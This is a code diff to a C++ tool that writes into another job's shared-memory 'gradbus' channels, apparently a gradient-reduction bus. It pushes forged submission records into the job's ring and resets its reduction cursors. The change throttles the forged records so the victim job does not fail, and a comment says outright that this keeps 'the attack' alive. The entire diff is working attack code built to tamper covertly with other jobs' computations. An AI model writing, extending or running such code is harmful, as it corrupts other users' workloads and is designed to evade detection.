@@ -97,9 +97,17 @@ std::vector<std::span<std::byte>> mappings(const std::string& name) {
   return found;
 }
 
+gradbus::RingControl& ring_of(std::byte* channel) {
+  return *reinterpret_cast<gradbus::RingControl*>(channel + gradbus::kSubmissionRingOffset);
+}
+
+uint64_t records_in(const gradbus::RingControl& ring) {
+  return ring.tail.count.load() - ring.head.count.load();
+}
+
 void push(std::byte* channel, const gradbus::Submission& record) {
   std::byte* const base = channel + gradbus::kSubmissionRingOffset;
-  auto& control = *reinterpret_cast<gradbus::RingControl*>(base);
+  auto& control = ring_of(channel);
   const uint64_t tail = control.tail.count.load();
   std::memcpy(
       base + sizeof(gradbus::RingControl) + tail % gradbus::kRingRecords * gradbus::kRecordBytes,
@@ -212,7 +220,8 @@ void rewind(gradbus::Session& session, const std::string& job, int tenths) {
       local_reductions.push_back(
           reinterpret_cast<gradbus::LocalReductionHeader*>(memory.data() + at));
   for (int turn = 0; turn < tenths * 100; ++turn) {
-    for (uint64_t round = 1; round < 40; ++round)
+    // A ring with too many records would end the job, and with it the attack.
+    for (uint64_t round = 1; round < 40 && records_in(ring_of(channel.data())) < 100; ++round)
       push(channel.data(), {1, 1, round, 0, 0, 0, 0, 0, 0});
     for (gradbus::LocalReductionHeader* local_reduction : local_reductions) {
       local_reduction->cursor.store(0);
